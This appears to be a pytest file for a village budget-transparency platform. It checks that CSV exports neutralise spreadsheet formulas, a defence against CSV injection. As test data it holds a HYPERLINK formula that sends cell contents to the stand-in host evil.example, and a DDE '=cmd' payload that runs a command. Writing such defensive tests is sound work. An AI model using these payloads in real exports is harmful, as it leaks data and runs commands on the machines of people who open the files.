"""No CSV the platform writes makes a spreadsheet run a formula (OWASP CSV Injection):
every writer goes through ``safe_csv``; text cells that start a formula get a quote."""
from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

import safe_csv
from app.extensions import db
from app.models import BudgetLine

ROOT = Path(__file__).resolve().parent.parent
ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


@pytest.mark.parametrize("cell", ["=1+1", "+62 812", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_starts_a_formula_is_quoted(cell):
    assert safe_csv.neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Belanja pegawai", "2026", "", "a=b", "e-mail"])
def test_other_text_is_unchanged(cell):
    assert safe_csv.neutralise(cell) == cell


@pytest.mark.parametrize("number", [-5, -2.5, Decimal("-712500000.00"), 0, True, None])
def test_numbers_stay_numbers(number):
    assert safe_csv.neutralise(number) is number


def test_the_public_apbdes_csv(jlodro, as_village):
    year = date.today().year
    with as_village("jlodro"):
        db.session.add_all([
            BudgetLine(year=year, section="belanja", code="-1", name=ATTACK,
                       planned=Decimal("1000.00"), realised=Decimal("250.50")),
            BudgetLine(year=year, section="pembiayaan", code="6.2", name="@Penyertaan modal",
                       planned=Decimal("-5000.00"), realised=Decimal("0")),
        ])
        db.session.commit()
    response = jlodro.get(f"/transparansi/apbdes-{year}.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    by_name = {row[3]: row for row in rows[1:]}
    assert set(by_name) == {"'" + ATTACK, "'@Penyertaan modal"}
    assert by_name["'" + ATTACK][2] == "'-1"
    assert by_name["'" + ATTACK][4:] == ["1000.00", "250.50"]
    assert by_name["'@Penyertaan modal"][4] == "-5000.00"  # a real negative number, readable


def test_the_dns_report_csv():
    from dns_tools import Result
    from dns_tools.report import CsvWriter

    out = io.StringIO()
    CsvWriter(out).write(Result(name="jlodro.tubankab.go.id", slug="jlodro", kode="35.23",
                                kecamatan="Kenduruan", verdict="wrong_target",
                                detail="=cmd|' /C calc'!A0"))
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert "'=cmd|' /C calc'!A0" in rows[1]


def test_every_csv_writer_goes_through_the_helper():
    direct = re.compile(r"(?<![\w.])csv\.(writer|DictWriter)\(")
    found = [str(path.relative_to(ROOT))
             for folder in ("app", "dns_tools", "tenants")
             for path in (ROOT / folder).rglob("*.py") if direct.search(path.read_text())]
    assert found == []
